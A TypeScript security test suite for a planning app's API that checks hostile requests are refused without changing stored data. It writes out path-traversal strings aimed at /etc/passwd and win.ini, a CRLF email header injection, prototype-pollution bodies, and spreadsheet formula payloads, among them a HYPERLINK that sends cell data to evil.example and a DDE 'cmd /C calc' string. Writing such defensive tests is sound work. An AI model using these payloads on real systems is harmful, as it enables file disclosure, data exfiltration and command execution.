/**
 * Hostile requests to the tab's JSON API (the real app over HTTP, LOCAL_MODE with X-Dev-User acting
 * as a lead or co-ordinator): bad JSON, wrong content type, oversize bodies, bad query parameters,
 * path traversal, unknown plans and items, missing versions, someone else's item, prototype-pollution
 * keys. Each gets the exact status and an {error, message} that says what to fix; the server stays
 * up and the store is unchanged. Formula payloads that are valid text are exported neutralised.
 */
import fs from 'node:fs';
import ExcelJS from 'exceljs';
import { TAB_DIST } from '../../src/server/app';
import { ITEMS, PEOPLE, send, startSecurityApp, type SecurityApp } from './support/securityApp';

let app: SecurityApp;

beforeAll(async () => {
  app = await startSecurityApp();
});
afterAll(async () => {
  await app?.close();
});

const AS = {
  ann: { 'x-dev-user': PEOPLE.ann.email },
  stranger: { 'x-dev-user': PEOPLE.stranger.email },
  cora: { 'x-dev-user': PEOPLE.cora.email },
};
const JSON_TYPE = { 'content-type': 'application/json' };

async function version(key: string): Promise<string> {
  return (await app.store.getItem(app.planId, key))!.version;
}

interface Req {
  method: string;
  path: string;
  headers?: Record<string, string>;
  body?: string;
}
type ApiCase = [name: string, request: () => Promise<Req>, status: number, error: string, message: RegExp];

const plan = () => `/api/plans/${app.planId}`;
const item = (key: string) => `${plan()}/items/${encodeURIComponent(key)}`;
const json = (v: unknown) => JSON.stringify(v);

const cases: ApiCase[] = [
  // Bodies.
  [
    'invalid JSON',
    async () => ({ method: 'POST', path: `${item(ITEMS.ann)}/status`, headers: { ...AS.ann, ...JSON_TYPE }, body: '{"to": "green",' }),
    400,
    'invalid',
    /^The request body is not valid JSON$/,
  ],
  [
    'JSON with a trailing comma',
    async () => ({ method: 'PATCH', path: item(ITEMS.ann), headers: { ...AS.cora, ...JSON_TYPE }, body: '{"title": "x",}' }),
    400,
    'invalid',
    /^The request body is not valid JSON$/,
  ],
  [
    'a JSON body sent as text/plain',
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.ann)}/status`,
      headers: { ...AS.ann, 'content-type': 'text/plain' },
      body: json({ to: 'green', version: await version(ITEMS.ann) }),
    }),
    415,
    'invalid',
    /Send the body as JSON \(Content-Type: application\/json\)/,
  ],
  [
    'a form-encoded body',
    async () => ({
      method: 'PATCH',
      path: item(ITEMS.ann),
      headers: { ...AS.cora, 'content-type': 'application/x-www-form-urlencoded' },
      body: 'title=x',
    }),
    415,
    'invalid',
    /Send the body as JSON/,
  ],
  [
    'a 300 KB body',
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.ann)}/status`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ to: 'amber', note: 'n'.repeat(300 * 1024), version: await version(ITEMS.ann) }),
    }),
    413,
    'invalid',
    /^The request body is too large$/,
  ],
  [
    'a 5 MB body',
    async () => ({
      method: 'PUT',
      path: `${plan()}/directory`,
      headers: { ...AS.cora, ...JSON_TYPE },
      body: json({ roles: [{ role: 'x'.repeat(5 * 1024 * 1024), people: [] }] }),
    }),
    413,
    'invalid',
    /^The request body is too large$/,
  ],
  [
    'a JSON array as the body',
    async () => ({ method: 'POST', path: `${item(ITEMS.ann)}/status`, headers: { ...AS.ann, ...JSON_TYPE }, body: '["green"]' }),
    400,
    'invalid',
    /expected object/i,
  ],
  [
    'a status of the wrong type',
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.ann)}/status`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ to: 5, version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /^to: Give the status \("to"\) as text: red, amber, green or complete$/,
  ],
  [
    '"not reported" as a report',
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.ann)}/status`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ to: 'not-reported', version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /^"not-reported" is not a status: choose Red, Amber, Green or Complete\.$/,
  ],
  [
    // A figure may come as typed text (as from the card), but it must be a number.
    'a figure as words',
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.ann)}/status`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ to: 'green', figures: { 0: 'ten' }, version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /^"ten" is not a number: give a figure of 0 or more for "Roundtable event/,
  ],
  [
    'a negative figure',
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.ann)}/status`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ to: 'green', figures: { 0: -1 }, version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /^A figure cannot be negative \(-1\): give 0 or more for "Roundtable event/,
  ],
  [
    'a figure for an output the item does not have',
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.ann)}/status`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ to: 'green', figures: { 99: 1 }, version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /The item has no output 99 to report a figure against/,
  ],
  [
    'a huge figure (1e12)',
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.ann)}/status`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ to: 'green', figures: { 0: 1e12 }, version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /^1000000000000 is too large for ".+": a figure is at most 10,000,000 \(check for a typo\)\.$/,
  ],
  [
    'a figure for an output with no target',
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.ann)}/status`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ to: 'green', figures: { 1: 3 }, version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /^".+" has no numeric target, so it takes no figure\.$/,
  ],
  [
    'an oversize note (2,001 characters)',
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.ann)}/status`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ to: 'amber', note: 'x'.repeat(2001), version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /^The note is 2,001 characters; the limit is 2,000\.$/,
  ],
  [
    'a revised date that does not exist (30 February)',
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.ann)}/status`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ to: 'red', note: 'Late', revisedDate: '2019-02-30', version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /^"2019-02-30" is not a date: use the date picker \(YYYY-MM-DD\)\.$/,
  ],
  [
    'a revised date in the past',
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.ann)}/status`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ to: 'red', note: 'Late', revisedDate: '2018-01-31', version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /^The revised date 2018-01-31 is in the past: give the date the item will now be delivered\.$/,
  ],
  [
    'a revised date in another format',
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.ann)}/status`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ to: 'red', note: 'Late', revisedDate: '31/12/2018', version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /^"31\/12\/2018" is not a date: use the date picker \(YYYY-MM-DD\)\.$/,
  ],
  [
    'a milestone that does not exist (31 April)',
    async () => ({
      method: 'PATCH',
      path: item(ITEMS.ann),
      headers: { ...AS.cora, ...JSON_TYPE },
      body: json({ milestones: ['2019-04-31'], version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /milestones\.0: Not a real date/,
  ],

  // Query parameters.
  [
    'an unknown status filter',
    async () => ({ method: 'GET', path: `${plan()}/items?status=purple` }),
    400,
    'invalid',
    /^status\.0: Statuses are not-reported, red, amber, green, complete$/,
  ],
  [
    'an objective that is not a number',
    async () => ({ method: 'GET', path: `${plan()}/items?objective=abc` }),
    400,
    'invalid',
    /^objective: /,
  ],
  ['an unknown sort key', async () => ({ method: 'GET', path: `${plan()}/items?sort=__proto__` }), 400, 'invalid', /^sort: /],
  [
    'an as-of date that is not a date',
    async () => ({ method: 'GET', path: `${plan()}/items?asOf=2018-13-45` }),
    400,
    'invalid',
    /^asOf: Not a real date$/,
  ],
  [
    'an upcoming window of 10,000 days',
    async () => ({ method: 'GET', path: `${plan()}/dashboard?upcomingDays=10000` }),
    400,
    'invalid',
    /^upcomingDays: /,
  ],
  [
    'an export format the server does not make',
    async () => ({ method: 'GET', path: `${plan()}/export?format=pdf`, headers: AS.cora }),
    400,
    'invalid',
    /^format: format is csv or xlsx$/,
  ],
  [
    'a repeated query parameter (array)',
    async () => ({ method: 'GET', path: `${plan()}/items?kind=action&kind=project` }),
    400,
    'invalid',
    /^kind: /,
  ],

  // Paths.
  [
    'path traversal in the plan id',
    async () => ({ method: 'GET', path: `/api/plans/${encodeURIComponent('../../etc/passwd')}` }),
    404,
    'not_found',
    /^There is no plan "\.\.\/\.\.\/etc\/passwd"\. Choose a plan from the list \(GET \/api\/plans\)\.$/,
  ],
  [
    'path traversal in the item key',
    async () => ({ method: 'GET', path: item('../../etc/passwd') }),
    404,
    'not_found',
    /^There is no item "\.\.\/\.\.\/etc\/passwd" in plan /,
  ],
  [
    'path traversal in a report',
    async () => ({
      method: 'POST',
      path: `${item('..\\..\\windows\\win.ini')}/status`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ to: 'green', version: 'x' }),
    }),
    404,
    'not_found',
    /^There is no item "\.\.\\\.\.\\windows\\win\.ini"/,
  ],
  [
    'a broken %-escape in the plan id',
    async () => ({ method: 'GET', path: '/api/plans/%E0%A4%A' }),
    400,
    'invalid',
    /^The address \/api\/plans\/%E0%A4%A has a broken %-escape: encode plan ids and item keys with encodeURIComponent$/,
  ],
  [
    'a lone % in the item key',
    async () => ({
      method: 'POST',
      path: `${plan()}/items/%/status`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ to: 'green', version: 'x' }),
    }),
    400,
    'invalid',
    /has a broken %-escape/,
  ],
  [
    'an unknown plan',
    async () => ({ method: 'GET', path: '/api/plans/no-such-plan/items' }),
    404,
    'not_found',
    /^There is no plan "no-such-plan"/,
  ],
  [
    'an unknown item',
    async () => ({ method: 'GET', path: item('zz-00000000') }),
    404,
    'not_found',
    /^There is no item "zz-00000000" in plan .*Reload the plan\.$/,
  ],
  ['an unknown route', async () => ({ method: 'DELETE', path: plan() }), 404, 'not_found', /^No API route DELETE \/api\/plans\//],

  // Versions and rights.
  [
    'PATCH without a version',
    async () => ({ method: 'PATCH', path: item(ITEMS.ann), headers: { ...AS.cora, ...JSON_TYPE }, body: json({ title: 'A new title' }) }),
    400,
    'invalid',
    /Send the version you are changing \(If-Match header or "version"\)/,
  ],
  [
    'a report without a version',
    async () => ({ method: 'POST', path: `${item(ITEMS.ann)}/status`, headers: { ...AS.ann, ...JSON_TYPE }, body: json({ to: 'green' }) }),
    400,
    'invalid',
    /Send the version you are changing/,
  ],
  [
    'PATCH with a stale version',
    async () => ({
      method: 'PATCH',
      path: item(ITEMS.ann),
      headers: { ...AS.cora, ...JSON_TYPE, 'if-match': '"stale-version"' },
      body: json({ title: 'A new title' }),
    }),
    409,
    'conflict',
    /^Item a2-97caae44 was changed by someone else$/,
  ],
  [
    'If-Match: * (any version)',
    async () => ({
      method: 'PATCH',
      path: item(ITEMS.ann),
      headers: { ...AS.cora, ...JSON_TYPE, 'if-match': '*' },
      body: json({ title: 'Whatever is there now' }),
    }),
    409,
    'conflict',
    /^Item a2-97caae44 was changed by someone else$/,
  ],
  [
    'a report with If-Match: * ',
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.ann)}/status`,
      headers: { ...AS.ann, ...JSON_TYPE, 'if-match': '*' },
      body: json({ to: 'complete' }),
    }),
    409,
    'conflict',
    /^Someone else reported on this item since you opened it( \(.+\))?: nothing was recorded\. Check the status now shown and report again if yours still stands\.$/,
  ],
  [
    "a lead reporting on someone else's item",
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.dan)}/status`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ to: 'green', version: await version(ITEMS.dan) }),
    }),
    403,
    'forbidden',
    /^You lead Prevent Co-ordinator; this item is led by Communications Manager\. Only its leads or a co-ordinator can report on it\.$/,
  ],
  [
    'a stranger reporting',
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.ann)}/status`,
      headers: { ...AS.stranger, ...JSON_TYPE },
      body: json({ to: 'green', version: await version(ITEMS.ann) }),
    }),
    403,
    'forbidden',
    /You are not listed as a lead in this plan's directory/,
  ],
  [
    'a lead editing an item',
    async () => ({
      method: 'PATCH',
      path: item(ITEMS.ann),
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ title: 'Mine now', version: await version(ITEMS.ann) }),
    }),
    403,
    'forbidden',
    /^Only a plan co-ordinator can edit an item\./,
  ],
  [
    'a lead editing the directory',
    async () => ({
      method: 'PUT',
      path: `${plan()}/directory`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: json({ roles: [{ role: 'Communications Manager', people: [{ name: 'Ann Lead', email: PEOPLE.ann.email }] }] }),
    }),
    403,
    'forbidden',
    /^Only a plan co-ordinator can change the directory\./,
  ],
  [
    'a lead exporting the plan',
    async () => ({ method: 'GET', path: `${plan()}/export`, headers: AS.ann }),
    403,
    'forbidden',
    /^Only a plan co-ordinator can export the plan\./,
  ],
  [
    'a lead changing settings',
    async () => ({ method: 'PUT', path: `${plan()}/settings`, headers: { ...AS.ann, ...JSON_TYPE }, body: json({}) }),
    403,
    'forbidden',
    /^Only a plan co-ordinator can change settings\./,
  ],

  // Settings and directory values.
  [
    'a negative reminder offset',
    async () => ({
      method: 'PUT',
      path: `${plan()}/settings`,
      headers: { ...AS.cora, ...JSON_TYPE },
      body: json({ reminderOffsets: [28, -1], digestDay: 'mon', digestHour: 9 }),
    }),
    400,
    'invalid',
    /^The settings were not saved: Reminder days cannot be negative$/,
  ],
  [
    'reminder offsets as a string',
    async () => ({
      method: 'PUT',
      path: `${plan()}/settings`,
      headers: { ...AS.cora, ...JSON_TYPE },
      body: json({ reminderOffsets: '28,14', digestDay: 'mon', digestHour: 9 }),
    }),
    400,
    'invalid',
    /^The settings were not saved: /,
  ],
  [
    'a digest hour of 25',
    async () => ({
      method: 'PUT',
      path: `${plan()}/settings`,
      headers: { ...AS.cora, ...JSON_TYPE },
      body: json({ reminderOffsets: [7], digestDay: 'mon', digestHour: 25 }),
    }),
    400,
    'invalid',
    /^The settings were not saved: The digest hour is 0 to 23$/,
  ],
  [
    'a digest day that is not a weekday',
    async () => ({
      method: 'PUT',
      path: `${plan()}/settings`,
      headers: { ...AS.cora, ...JSON_TYPE },
      body: json({ reminderOffsets: [7], digestDay: 'someday', digestHour: 9 }),
    }),
    400,
    'invalid',
    /^The settings were not saved: The digest day is one of Monday to Sunday \(mon, tue, wed, thu, fri, sat, sun\)$/,
  ],
  [
    'a digest channel of 500 characters',
    async () => ({
      method: 'PUT',
      path: `${plan()}/settings`,
      headers: { ...AS.cora, ...JSON_TYPE },
      body: json({ reminderOffsets: [7], digestDay: 'mon', digestHour: 9, digestChannel: 'c'.repeat(500) }),
    }),
    400,
    'invalid',
    /^The settings were not saved: The channel id is too long$/,
  ],
  [
    'a lead whose email is a header injection',
    async () => ({
      method: 'PUT',
      path: `${plan()}/directory`,
      headers: { ...AS.cora, ...JSON_TYPE },
      body: json({
        roles: [{ role: 'Communications Manager', people: [{ name: 'Eve', email: 'eve@example.org\r\nBcc: all@example.org' }] }],
      }),
    }),
    400,
    'invalid',
    /^roles\.0\.people\.0\.email: Not an email address$/,
  ],
  [
    'a role with no name',
    async () => ({
      method: 'PUT',
      path: `${plan()}/directory`,
      headers: { ...AS.cora, ...JSON_TYPE },
      body: json({ roles: [{ role: '   ', people: [] }] }),
    }),
    400,
    'invalid',
    /^roles\.0\.role: A role cannot be empty$/,
  ],
  [
    '21 people in one role',
    async () => ({
      method: 'PUT',
      path: `${plan()}/directory`,
      headers: { ...AS.cora, ...JSON_TYPE },
      body: json({ roles: [{ role: 'Communications Manager', people: Array.from({ length: 21 }, (_, i) => ({ name: `P${i}` })) }] }),
    }),
    400,
    'invalid',
    /^roles\.0\.people: /,
  ],
  [
    'an item title of 501 characters',
    async () => ({
      method: 'PATCH',
      path: item(ITEMS.ann),
      headers: { ...AS.cora, ...JSON_TYPE },
      body: json({ title: 't'.repeat(501), version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /^title: The title is longer than 500 characters$/,
  ],
  [
    'an item with no leads',
    async () => ({
      method: 'PATCH',
      path: item(ITEMS.ann),
      headers: { ...AS.cora, ...JSON_TYPE },
      body: json({ leads: [], version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /^leads: An item needs at least one lead role$/,
  ],
  [
    'an objective the plan does not have',
    async () => ({
      method: 'PATCH',
      path: item(ITEMS.ann),
      headers: { ...AS.cora, ...JSON_TYPE },
      body: json({ objectives: [99], version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /^The plan has no objective 99$/,
  ],
  [
    'an empty edit',
    async () => ({
      method: 'PATCH',
      path: item(ITEMS.ann),
      headers: { ...AS.cora, ...JSON_TYPE },
      body: json({ version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /Nothing to change: send at least one field/,
  ],

  // Prototype pollution and unknown keys.
  [
    '__proto__ in a report',
    async () => ({
      method: 'POST',
      path: `${item(ITEMS.ann)}/status`,
      headers: { ...AS.ann, ...JSON_TYPE },
      body: `{"to":"green","version":"${await version(ITEMS.ann)}","__proto__":{"polluted":true}}`,
    }),
    400,
    'invalid',
    /Unrecognized key.*"__proto__"/,
  ],
  [
    '__proto__ in an item edit',
    async () => ({
      method: 'PATCH',
      path: item(ITEMS.ann),
      headers: { ...AS.cora, ...JSON_TYPE },
      body: `{"__proto__":{"title":"Polluted","polluted":true},"version":"${await version(ITEMS.ann)}"}`,
    }),
    400,
    'invalid',
    /Unrecognized key.*"__proto__"/,
  ],
  [
    'constructor.prototype in an item edit',
    async () => ({
      method: 'PATCH',
      path: item(ITEMS.ann),
      headers: { ...AS.cora, ...JSON_TYPE },
      body: `{"constructor":{"prototype":{"polluted":true}},"version":"${await version(ITEMS.ann)}"}`,
    }),
    400,
    'invalid',
    /Unrecognized key.*"constructor"/,
  ],
  [
    '__proto__ in the directory',
    async () => ({
      method: 'PUT',
      path: `${plan()}/directory`,
      headers: { ...AS.cora, ...JSON_TYPE },
      body: '{"roles":[{"role":"Communications Manager","people":[{"name":"Eve","__proto__":{"id":"aad-cora"}}]}]}',
    }),
    400,
    'invalid',
    /Unrecognized key.*"__proto__"/,
  ],
  [
    '__proto__ in the settings',
    async () => ({
      method: 'PUT',
      path: `${plan()}/settings`,
      headers: { ...AS.cora, ...JSON_TYPE },
      body: '{"__proto__":{"polluted":true}}',
    }),
    400,
    'invalid',
    /__proto__/,
  ],
  [
    'a field the item does not have',
    async () => ({
      method: 'PATCH',
      path: item(ITEMS.ann),
      headers: { ...AS.cora, ...JSON_TYPE },
      body: json({ planId: 'another-plan', version: await version(ITEMS.ann) }),
    }),
    400,
    'invalid',
    /Unrecognized key.*"planId"/,
  ],
];

describe('hostile API requests get a clear refusal and write nothing', () => {
  const settings = async () => (await send(`${app.url}${plan()}/settings`, { headers: AS.cora })).text;

  it.each(cases)('%s', async (_name, request, status, error, message) => {
    const before = await app.snapshot();
    const settingsBefore = await settings();
    const r = await request();
    const res = await send(`${app.url}${r.path}`, {
      method: r.method,
      headers: r.headers ?? {},
      ...(r.body !== undefined ? { body: r.body } : {}),
    });
    expect({ status: res.status, error: res.body?.error }).toEqual({ status, error });
    expect(res.body.message).toMatch(message);
    expect(res.text).not.toMatch(/node_modules|at .*\.js:\d+/);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(await app.healthy()).toBe(true);
    expect(await app.snapshot()).toBe(before);
    expect(await settings()).toBe(settingsBefore);
  });
});

describe('formula payloads that are valid text', () => {
  const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Update")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)'];

  it('are stored as typed and exported neutralised (CSV and XLSX)', async () => {
    const [title, provider, timescale, description] = FORMULAS as [string, string, string, string];
    const res = await send(`${app.url}${item(ITEMS.ann)}`, {
      method: 'PATCH',
      headers: { ...AS.cora, ...JSON_TYPE, 'if-match': `"${await version(ITEMS.ann)}"` },
      body: json({ title, provider, timescale, description }),
    });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ title, provider, timescale, description });

    const csv = await send(`${app.url}${plan()}/export?format=csv`, { headers: AS.cora });
    expect(csv.status).toBe(200);
    const cells = csv.text.split(/\r?\n/).flatMap((line) => line.split(','));
    for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv.text).toContain(`'=HYPERLINK(`);

    const xlsx = await fetch(`${app.url}${plan()}/export?format=xlsx`, { headers: AS.cora });
    expect(xlsx.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as unknown as ArrayBuffer);
    const values: string[] = [];
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((c) => {
          expect(c.formula).toBeUndefined();
          if (typeof c.value === 'string') values.push(c.value);
        }),
      ),
    );
    for (const v of values) expect(v).not.toMatch(/^[=+\-@]/);
    expect(values.some((v) => v.includes('HYPERLINK'))).toBe(true);
    expect(await app.healthy()).toBe(true);
  });
});

describe("path traversal in the tab's static files", () => {
  const built = fs.existsSync(TAB_DIST);

  it.each([
    '/tab/..%2f..%2fpackage.json',
    '/tab/%2e%2e/%2e%2e/package.json',
    '/tab/..%5c..%5cpackage.json',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/tab/index.html%00.js',
  ])('%s serves nothing outside the tab', async (path) => {
    const res = await send(`${app.url}${path}`);
    // Not built: the tab answers 503 for its own paths; anything else is 404 either way. (fetch
    // resolves %2e%2e segments itself, so the server sees /package.json for some of these.)
    const seen = new URL(`${app.url}${path}`).pathname;
    expect(res.status).toBe(!built && seen.startsWith('/tab/') ? 503 : 404);
    expect(res.text).not.toContain('delivery-plan-for-teams');
    expect(res.text).not.toContain('root:');
    expect(await app.healthy()).toBe(true);
  });
});
